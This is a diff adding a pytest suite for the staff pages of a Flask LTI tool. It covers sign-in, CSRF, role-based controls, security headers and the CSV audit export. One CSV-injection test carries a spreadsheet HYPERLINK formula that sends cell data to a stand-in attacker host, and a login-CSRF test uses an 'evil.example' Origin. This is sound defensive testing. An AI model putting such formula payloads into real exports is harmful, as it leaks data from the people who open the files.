@@ -1,0 +1,395 @@
+"""The staff pages at their doors: who gets in, who sees which control, what forms and cookies must carry."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+
+import pytest
+from bs4 import BeautifulSoup
+from flask import Flask
+from flask.testing import FlaskClient
+
+from lti_tool.domain.staff import StaffRole
+from lti_tool.store.audit import EventFilter
+from lti_tool.store.holders import HolderFilter
+from tests.gallery.staff_pages import CSRF, staff_pages
+from tests.unit.web import staff_views as views
+from tests.unit.web.sample_views import BASE_URL, session
+from tests.unit.web.samples import SECRET, Sample
+
+READ = tuple(
+    dict.fromkeys(
+        page.path.partition("?")[0]
+        for page in staff_pages()
+        if page.fields is None and page.status == 200 and "sign-in" not in page.path
+    )
+)
+"""Every page that somebody signed in can open."""
+
+
+@pytest.fixture
+def staff(app: Flask) -> FlaskClient:
+    """A browser that holds the cookie of a staff session."""
+    client = app.test_client()
+    client.set_cookie("staff_session", SECRET, path="/staff", domain="localhost")
+    return client
+
+
+def staff_routes(app: Flask) -> Iterator[tuple[str, str]]:
+    """(method, path) of every route below /staff that needs a session."""
+    for rule in app.url_map.iter_rules():
+        if rule.rule.startswith("/staff") and rule.endpoint not in ("staff.sign_in", "staff.use_link"):
+            path = rule.rule
+            for name in rule.arguments:
+                path = path.replace(f"<{name}>", f"{name}-1")
+            for method in (rule.methods or set()) - {"HEAD", "OPTIONS"}:
+                yield method, path
+
+
+# -- getting in
+
+
+def test_without_a_session_every_page_leads_to_the_sign_in(app: Flask, client: FlaskClient) -> None:
+    tried = 0
+    for method, path in staff_routes(app):
+        answer = client.open(path, method=method, data={"csrf_token": CSRF} if method == "POST" else None)
+        if method == "GET":
+            assert (answer.status_code, answer.location) == (303, "/staff/sign-in"), path
+        else:
+            assert answer.status_code == 403, path
+            assert "staff_sign_in_needed" in answer.text
+        tried += 1
+    assert tried > 30
+
+
+def test_a_session_that_is_over_is_forgotten(client: FlaskClient) -> None:
+    client.set_cookie("staff_session", "over", path="/staff", domain="localhost")
+    answer = client.get("/staff/")
+    assert answer.location == "/staff/sign-in?ended=yes"
+    assert "staff_session=;" in answer.headers["Set-Cookie"]
+    assert "Your session has ended." in client.get(answer.location).text
+
+
+def test_looking_at_a_link_uses_nothing_up(client: FlaskClient, tool: Sample) -> None:
+    for method in ("GET", "HEAD"):
+        assert client.open("/staff/sign-in", method=method).status_code == 200
+    assert client.get("/staff/sign-in?token=good-link").status_code == 200
+    assert tool.calls == []
+
+
+@pytest.mark.parametrize(
+    "pasted", ["good-link", f"{BASE_URL}/staff/sign-in#good-link", f" {BASE_URL}/staff/sign-in#good-link\n"]
+)
+def test_a_link_or_its_end_signs_in(pasted: str, client: FlaskClient, tool: Sample) -> None:
+    answer = client.post("/staff/sign-in", data={"token": pasted}, headers={"Origin": BASE_URL})
+    assert (answer.status_code, answer.location) == (303, "/staff/")
+    assert tool.calls == [("sign_in", "good-link")]
+    parts = {part.strip() for part in answer.headers["Set-Cookie"].split(";")}
+    assert {f"staff_session={SECRET}", "HttpOnly", "SameSite=Lax", "Secure", "Path=/staff"} <= parts
+    assert "Max-Age=43200" in parts
+    assert client.get("/staff/").status_code == 200
+
+
+def test_a_link_that_does_not_work_says_where_another_comes_from(client: FlaskClient) -> None:
+    answer = client.post("/staff/sign-in", data={"token": "used"}, headers={"Origin": BASE_URL})
+    assert answer.status_code == 403
+    assert "staff_link_invalid" in answer.text
+    assert 'href="/staff/sign-in"' in answer.text
+    assert "Set-Cookie" not in answer.headers
+
+
+@pytest.mark.parametrize("origin", [None, "null", "https://evil.example", f"{BASE_URL}.evil.example"])
+def test_no_other_site_signs_anybody_in(origin: str | None, client: FlaskClient, tool: Sample) -> None:
+    """Somebody who is signed in as the attacker would do the attacker's work."""
+    headers = {} if origin is None else {"Origin": origin}
+    answer = client.post("/staff/sign-in", data={"token": "good-link"}, headers=headers)
+    assert answer.status_code == 400
+    assert "csrf_invalid" in answer.text
+    assert tool.calls == []
+
+
+def test_signing_out_ends_the_session_here_and_there(staff: FlaskClient, tool: Sample) -> None:
+    answer = staff.post("/staff/sign-out", data={"csrf_token": CSRF})
+    assert answer.location == "/staff/sign-in?signed_out=yes"
+    assert tool.calls == [("sign_out", SECRET)]
+    assert "staff_session=;" in answer.headers["Set-Cookie"]
+    assert staff.get("/staff/").location == "/staff/sign-in"
+
+
+# -- forms
+
+
+def test_no_form_without_its_token_changes_anything(app: Flask, staff: FlaskClient, tool: Sample) -> None:
+    posts = [path for method, path in staff_routes(app) if method == "POST"]
+    assert len(posts) > 15
+    for path in posts:
+        for token in ("", "csrf-of-another", "é"):
+            answer = staff.post(path, data={"csrf_token": token, "action": "approve", "role": "owner"})
+            assert answer.status_code == 400, path
+            assert "csrf_invalid" in answer.text
+            assert "load the page again" in answer.text
+    assert tool.calls == []
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/staff/members/member-1/status",
+        "/staff/members/member-1/role",
+        "/staff/registrations/registration-1/status",
+        "/staff/registrations/registration-1/administrators",
+        "/staff/deployments/deployment-1/status",
+        "/staff/micromodules/micromodule-1/status",
+    ],
+)
+def test_a_button_that_no_page_has_does_nothing(path: str, staff: FlaskClient, tool: Sample) -> None:
+    answer = staff.post(path, data={"csrf_token": CSRF, "action": "explode", "role": "king"})
+    assert answer.status_code == 400
+    assert tool.calls == []
+
+
+@pytest.mark.parametrize(
+    "path, fields, call",
+    [
+        ("organisation", {"name": "New"}, ("rename_organisation", "New")),
+        ("members/m/role", {"role": "editor"}, ("change_role", "m", StaffRole.EDITOR)),
+        ("members/m/status", {"action": "disable"}, ("disable", "m")),
+        ("members/m/status", {"action": "enable"}, ("enable", "m")),
+        ("registrations/r/status", {"action": "approve"}, ("approve_registration", "r")),
+        ("registrations/r/status", {"action": "disable"}, ("disable_registration", "r")),
+        (
+            "registrations/r/administrators",
+            {"role": "reader"},
+            ("set_administrator_role", "r", StaffRole.READER),
+        ),
+        ("registrations/r/administrators", {"role": ""}, ("set_administrator_role", "r", None)),
+        ("deployments/d/status", {"action": "approve"}, ("approve_deployment", "d")),
+        ("deployments/d/status", {"action": "disable"}, ("disable_deployment", "d")),
+        ("deployments/d/frame-origins", {"frame_origins": "x"}, ("set_frame_origins", "d", "x")),
+        ("issuers/i", {"name": "N"}, ("change_issuer", "i", {"name": "N"})),
+        ("micromodules/m/categories", {"category": "c"}, ("set_categories", "m", ["c"])),
+        ("micromodules/m/status", {"action": "archive"}, ("archive_micromodule", "m", True)),
+        ("micromodules/m/status", {"action": "restore"}, ("archive_micromodule", "m", False)),
+        ("categories", {"name": "N"}, ("add_category", "N")),
+        ("categories/c", {"name": "N"}, ("rename_category", "c", "N")),
+        ("categories/c/delete", {}, ("delete_category", "c")),
+        ("credentials/c/revoke", {"reason": "R"}, ("revoke_credential", "c", "R")),
+    ],
+)
+def test_a_form_does_what_its_button_says(
+    path: str, fields: dict[str, str], call: tuple[object, ...], staff: FlaskClient, tool: Sample
+) -> None:
+    answer = staff.post(f"/staff/{path}", data={**fields, "csrf_token": CSRF})
+    assert answer.status_code == 303
+    (made,) = tool.calls
+    assert tuple(part for part in made if part != tool.staffing.view) == call
+    shown = BeautifulSoup(staff.get(answer.location).text, "html5lib")
+    assert shown.select_one(".notice-good [class], .notice-good p") is not None
+
+
+def test_an_invitation_is_shown_once_and_kept_nowhere(staff: FlaskClient, tool: Sample) -> None:
+    fields = {"name": "Edgar", "email": "", "role": "editor", "csrf_token": CSRF}
+    answer = staff.post("/staff/members", data=fields)
+    assert views.LINK.url in answer.text
+    assert answer.headers["Cache-Control"] == "no-store"
+    assert tool.calls == [("invite", StaffRole.EDITOR, "Edgar", "")]
+    assert views.LINK.url not in staff.get("/staff/organisation").text
+
+
+# -- who sees what
+
+
+CONTROLS = {
+    StaffRole.OWNER: None,
+    StaffRole.EDITOR: ("/staff/issuers/", "/staff/micromodules/", "/staff/categories"),
+    StaffRole.REVIEWER: (),
+    StaffRole.READER: (),
+}
+"""Where the forms of a role may go to, beside signing out; of an owner's, everywhere."""
+
+
+@pytest.mark.parametrize("role", CONTROLS)
+def test_nobody_sees_a_control_that_would_be_refused(
+    role: StaffRole, staff: FlaskClient, tool: Sample
+) -> None:
+    tool.staffing.view = views.staff(role)
+    allowed = CONTROLS[role]
+    seen = 0
+    for path in READ:
+        if path in ("/staff/members/new", "/staff/credentials/credential-1/revoke"):
+            continue  # refused whole, see below
+        page = BeautifulSoup(staff.get(path).text, "html5lib")
+        targets = {str(form["action"]) for form in page.select("form[method=post]")} - {"/staff/sign-out"}
+        seen += len(targets)
+        if allowed is not None:
+            assert all(target.startswith(allowed) for target in targets), f"{path}: {targets}"
+            assert page.select_one('a[href="/staff/members/new"]') is None
+        has_revocation = bool(page.select('a[href$="/revoke"]'))
+        if role in (StaffRole.EDITOR, StaffRole.READER):
+            assert not has_revocation, path
+    assert (seen > 0) == (allowed != ())
+
+
+@pytest.mark.parametrize(
+    "path, roles",
+    [
+        ("/staff/members/new", (StaffRole.OWNER,)),
+        ("/staff/credentials/credential-1/revoke", (StaffRole.OWNER, StaffRole.REVIEWER)),
+    ],
+)
+@pytest.mark.parametrize("role", list(StaffRole))
+def test_a_page_that_only_changes_is_refused_to_others(
+    path: str, roles: tuple[StaffRole, ...], role: StaffRole, staff: FlaskClient, tool: Sample
+) -> None:
+    tool.staffing.view = views.staff(role)
+    answer = staff.get(path)
+    assert answer.status_code == (200 if role in roles else 403)
+    if role not in roles:
+        assert "staff_not_allowed" in answer.text
+        assert "Sign out" in answer.text  # the page's frame stays: there is a way on
+
+
+def test_only_an_owner_invites(staff: FlaskClient, tool: Sample) -> None:
+    fields = {"name": "Me", "role": "owner", "csrf_token": CSRF}
+    for role in (StaffRole.EDITOR, StaffRole.REVIEWER, StaffRole.READER):
+        tool.staffing.view = views.staff(role)
+        assert staff.post("/staff/members", data=fields).status_code == 403
+    assert tool.calls == []
+
+
+def test_services_are_asked_for_ones_own_organisation(staff: FlaskClient, tool: Sample) -> None:
+    tool.staffing.view = views.staff(organisation_id="organisation-7")
+    asked: list[object] = []
+    for name, read in vars(tool.overview).items():
+        setattr(
+            tool.overview,
+            name,
+            lambda organisation_id, *a, read=read, **n: (
+                asked.append(organisation_id) or read(organisation_id, *a, **n)
+            ),
+        )
+    for path in READ:
+        staff.get(path)
+    staff.get("/staff/audit.csv").get_data()
+    assert len(asked) >= len(READ) - 3
+    assert set(asked) == {"organisation-7"}
+
+
+# -- headers
+
+
+def test_staff_pages_are_framed_by_nobody_and_kept_nowhere(staff: FlaskClient) -> None:
+    for path in (*READ, "/staff/sign-in", "/staff/nothing-here", "/staff/audit.csv"):
+        headers = staff.get(path).headers
+        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
+        assert headers["Cache-Control"] == "no-store", path
+
+
+def test_a_launch_session_opens_no_staff_page(member: FlaskClient) -> None:
+    assert member.get("/staff/").status_code == 303
+
+
+def test_a_staff_session_opens_no_page_of_a_course(app: Flask) -> None:
+    client = app.test_client()
+    client.set_cookie("staff_session", SECRET, path="/", domain="localhost")
+    assert client.get("/l/session-1/wallet").status_code == 403
+
+
+# -- the way out of the frame
+
+
+def test_an_administrator_of_the_platform_sees_the_way_to_the_staff_pages(
+    member: FlaskClient, tool: Sample
+) -> None:
+    tool.launching.view = session(is_administrator=True)
+    assert 'action="/l/session-1/staff"' in member.get("/l/session-1/wallet").text
+    answer = member.post("/l/session-1/staff", data={"csrf_token": CSRF})
+    link = BeautifulSoup(answer.text, "html5lib").select_one('a[target="_blank"]')
+    assert link is not None
+    assert link["href"] == views.HAND_OVER.url
+    assert link["rel"] == ["noopener", "noreferrer"]
+    assert "Set-Cookie" not in answer.headers
+
+
+@pytest.mark.parametrize("is_administrator", [True, False])
+def test_nobody_else_sees_it(is_administrator: bool, member: FlaskClient, tool: Sample) -> None:
+    tool.launching.view = session(is_administrator=is_administrator)
+    tool.staffing.administrator = None
+    assert "/l/session-1/staff" not in member.get("/l/session-1/wallet").text
+    assert member.post("/l/session-1/staff", data={"csrf_token": CSRF}).status_code == 403
+
+
+def test_the_way_out_needs_the_forms_token(member: FlaskClient, tool: Sample) -> None:
+    tool.launching.view = session(is_administrator=True)
+    assert member.post("/l/session-1/staff", data={"csrf_token": "x"}).status_code == 400
+    assert member.get("/l/session-1/staff").status_code == 405
+
+
+# -- lists and the file
+
+
+def test_a_filter_is_passed_on_as_it_was_typed(staff: FlaskClient, tool: Sample) -> None:
+    asked = []
+    tool.overview.holders = lambda _, wanted, **paging: (
+        asked.append((wanted, paging["page"])) or views.HOLDER_LISTS["usual"]
+    )
+    staff.get("/staff/holders?q=%20l%C3%B6v%20&micromodule=m1&state=revoked&page=3")
+    staff.get("/staff/holders?state=evil&page=-4")
+    staff.get("/staff/holders?page=many")
+    assert asked == [
+        (HolderFilter("löv", "m1", "revoked"), 3),
+        (HolderFilter(), 1),
+        (HolderFilter(), 1),
+    ]
+
+
+def test_leafing_keeps_the_filter(staff: FlaskClient) -> None:
+    page = BeautifulSoup(staff.get("/staff/holders?q=lov&micromodule=micromodule-1").text, "html5lib")
+    link = page.select_one('a[rel="next"]')
+    assert link is not None
+    assert link["href"] == "/staff/holders?q=lov&micromodule=micromodule-1&page=3"
+
+
+@pytest.mark.parametrize("day", ["2026-02-30", "0001-01-01", "9999-12-31", "yesterday", ""])
+def test_a_day_that_is_none_is_not_asked_for(day: str, staff: FlaskClient, tool: Sample) -> None:
+    asked: list[EventFilter] = []
+    tool.overview.trail = lambda _, wanted, **__: asked.append(wanted) or views.TRAILS["empty"]
+    assert staff.get("/staff/audit", query_string={"since": day, "until": day}).status_code == 200
+    (wanted,) = asked
+    assert wanted.until is None or wanted.until.year == 1
+
+
+def test_the_day_until_is_included(staff: FlaskClient, tool: Sample) -> None:
+    asked: list[EventFilter] = []
+    tool.overview.trail = lambda _, wanted, **__: asked.append(wanted) or views.TRAILS["empty"]
+    staff.get("/staff/audit?since=2026-11-22&until=2026-11-22")
+    (wanted,) = asked
+    assert wanted.since is not None
+    assert wanted.until is not None
+    assert (wanted.until - wanted.since).days == 1
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@"])
+def test_no_cell_of_the_file_is_a_formula(start: str, staff: FlaskClient, tool: Sample) -> None:
+    """Learners and teachers choose their names in the LMS; staff open the file in a spreadsheet."""
+    name = f'{start}HYPERLINK("https://evil.example?"&A1)'
+    row = views.event(1, "learner:learner-1", "credential.shared", "credential")
+    tool.overview.trail_rows = lambda *_: iter([(row, name)])
+    answer = staff.get("/staff/audit.csv")
+    assert answer.mimetype == "text/csv"
+    assert "attachment" in answer.headers["Content-Disposition"]
+    header, line = csv.reader(io.StringIO(answer.text, newline=""))
+    assert header[:3] == ["at", "actor", "name"]
+    assert line[2] == f"'{name}"
+
+
+def test_the_file_holds_every_event(staff: FlaskClient) -> None:
+    rows = list(csv.DictReader(io.StringIO(staff.get("/staff/audit.csv").text, newline="")))
+    assert [row["subject_kind"] for row in rows] == [one.subject_kind for one in views.EVENTS]
+    assert rows[0]["name"] == "Olivia Owner"
+
+
+def test_a_badges_id_leads_to_its_holder(staff: FlaskClient) -> None:
+    assert staff.get("/staff/credentials/credential-1").location == "/staff/holders/learner-1"
